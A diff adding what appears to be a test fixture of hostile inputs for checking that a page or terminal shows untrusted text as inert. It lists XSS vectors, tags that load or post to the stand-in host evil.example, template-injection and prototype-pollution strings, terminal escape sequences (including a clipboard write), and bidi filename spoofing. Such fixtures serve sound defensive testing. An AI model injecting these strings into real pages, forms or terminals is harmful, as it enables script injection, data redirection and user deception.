@@ -1,0 +1,42 @@
+/**
+ * What strangers may put into any name, value or line: each tries to be more than text. Everything that a page or a terminal shows of
+ * it must be text, and look like what it is.
+ */
+export const payloads: readonly string[] = [
+  '<script>window.hit=1</script>',
+  '<img src=x onerror="window.hit=1">',
+  '<svg/onload=window.hit=1>',
+  '<iframe srcdoc="<script>parent.hit=1</script>">',
+  '"><a href="javascript:window.hit=1">x</a>',
+  "' onmouseover='window.hit=1' autofocus onfocus='window.hit=1",
+  'javascript:window.hit=1',
+  'data:text/html,<script>window.hit=1</script>',
+  '<link rel=stylesheet href=//evil.example/x.css>',
+  '<meta http-equiv=refresh content="0;url=//evil.example">',
+  '<base href=//evil.example>',
+  '</style><style>*{display:none}</style>',
+  'red;background:url(//evil.example/x)',
+  '</title></textarea></noscript><form action=//evil.example>',
+  '{{constructor.constructor("window.hit=1")()}}',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the attempt
+  '${window.hit=1}',
+  '__proto__',
+  'constructor',
+  'hasOwnProperty',
+  '%s%n%x%d',
+  '\u001b[2J\u001b[31mred',
+  '\u001b]0;owned\u0007',
+  '\u001b]8;;http://evil.example\u001b\\link\u001b]8;;\u001b\\',
+  '\u001b]52;c;aGl0\u0007',
+  '\u009b2Jeight',
+  'user\u202egpj.exe',
+  '\u2066isolate\u2069\u200f',
+  'zero\u200bwidth\ufeff\u2060',
+  'null\u0000byte',
+  'line\u2028break\r\nand another',
+  'tags\u{e0041}\u{e0042}',
+  `z${'\u0301\u0337'.repeat(60)}`,
+  'a'.repeat(240),
+  'wide '.repeat(40),
+  '𝕎𝕚𝕕𝕖 ﷽﷽﷽﷽',
+];
